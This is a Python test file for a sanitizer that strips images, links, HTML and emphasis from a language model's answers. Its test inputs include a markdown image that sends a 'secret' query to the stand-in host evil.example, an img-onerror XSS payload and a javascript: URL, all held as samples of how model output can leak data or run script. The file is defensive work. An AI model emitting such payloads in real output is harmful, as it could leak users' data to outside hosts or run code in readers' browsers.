"""No image, link, HTML or emphasis of a model's reaches a reader; its words stay."""

import pytest

from assistant.llm.tidy import tidy


@pytest.mark.parametrize(
    ("written", "left"),
    [
        ("The CMO ![pixel](http://evil.example/x.png?q=secret) leads.", "The CMO leads."),
        ("The CMO ![pixel][ref] leads.", "The CMO leads."),
        ("The [CMO](http://evil.example) leads.", "The CMO leads."),
        ("The [CMO][1a] leads.", "The CMO leads."),
        ("The CMO leads, see https://evil.example/a?b=c now.", "The CMO leads, see now."),
        ("The CMO leads www.evil.example today.", "The CMO leads today."),
        ("The CMO <img src=x onerror=alert(1)>leads.", "The CMO leads."),
        ("The CMO leads <https://evil.example>.", "The CMO leads."),
        ("[ref]: http://evil.example", ""),
        ("The CMO](http://evil.example/half leads.", "The CMO leads."),
        ("Go to javascript:alert(1) now.", "Go to now."),
    ],
)
def test_images_and_links_go(written, left):
    tidied = tidy(written)
    assert tidied.links
    assert tidied.text == left


@pytest.mark.parametrize("marked", ["**The CMO** leads.", "*The CMO* leads.", "__The CMO__ leads.", "`The CMO` leads."])
def test_emphasis_goes_without_being_a_link(marked):
    tidied = tidy(marked)
    assert (tidied.text, tidied.links) == ("The CMO leads.", False)


@pytest.mark.parametrize(
    "lead",
    [
        "The evidence says that the",
        "The evidence is: The",
        "According to the evidence, the",
        "Based on the provided evidence the",
        "Answer: the",
    ],
)
def test_a_lead_that_speaks_of_the_prompt_goes(lead):
    assert tidy(f"{lead} CMO leads.").text == "The CMO leads."


def test_plain_text_stays_as_it_is():
    text = "A CMO's pay (base and bonus) grows by 3.5 % or $1,000, e.g. in B2B/SaaS firms."
    assert tidy(text).text == text
